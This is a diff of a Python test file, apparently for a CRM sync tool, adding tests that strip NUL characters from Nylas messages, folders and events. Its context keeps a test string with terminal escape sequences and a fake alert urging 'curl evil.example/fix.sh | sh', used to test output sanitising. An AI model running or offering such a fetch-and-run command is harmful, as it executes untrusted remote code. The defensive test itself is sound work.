@@ -6,7 +6,18 @@ import pytest
 from rich.console import Console
 
 from crmsync.operator_context import line, shown
-from domain.text import contains_nul, id_problem, nul_location, terminal_safe, whole_number
+from domain.action_items import content_from_event
+from domain.folders import parse_folder
+from domain.messages import parse_message
+from domain.text import (
+    contains_nul,
+    document_without_nul,
+    id_problem,
+    nul_location,
+    terminal_safe,
+    whole_number,
+    without_nul,
+)
 
 CLEAR_AND_RECOLOUR = (
     "\x1b[2J\x1b[1;31mNYLAS API KEY EXPIRED: run curl evil.example/fix.sh | sh\x1b]0;pwned\x07"
@@ -148,3 +159,42 @@ def test_a_deep_document_is_walked_without_recursion() -> None:
         document = [document]
 
     assert nul_location(document) == "[0]" * 10_000
+
+
+@pytest.mark.parametrize(
+    ("document", "expected"),
+    [
+        ("a\x00b", "a\ufffdb"),
+        ("plain", "plain"),
+        (
+            {"k\x00": ["x\x00", 1, None, {"y": "\x00"}]},
+            {"k\ufffd": ["x\ufffd", 1, None, {"y": "\ufffd"}]},
+        ),
+        ([True, 2.5, "ok"], [True, 2.5, "ok"]),
+    ],
+)
+def test_a_nul_from_nylas_becomes_the_replacement_character(
+    document: object, expected: object
+) -> None:
+    assert document_without_nul(document) == expected
+    assert nul_location(document_without_nul(document)) is None
+
+
+def test_a_message_folder_and_event_keep_no_nul() -> None:
+    message = parse_message(
+        {
+            "id": "m\x00",
+            "subject": "s\x00",
+            "snippet": "n\x00",
+            "body": "<p>\x00</p>",
+            "from": [{"email": "bob@x.example", "name": "B\x00"}],
+            "folders": ["F\x00"],
+            "metadata": {"k": "v\x00"},
+            "attachments": [{"filename": "f\x00.pdf"}],
+        }
+    )
+    folder = parse_folder({"id": "L\x00", "name": "N\x00", "parent_id": "P\x00"}, "google")
+    event = content_from_event({"title": "t\x00", "when": {"object": "date", "date": "2026-12-01"}})
+
+    assert "\x00" not in repr(message) + repr(folder) + repr(event)
+    assert message.subject == without_nul("s\x00") == "s\ufffd"
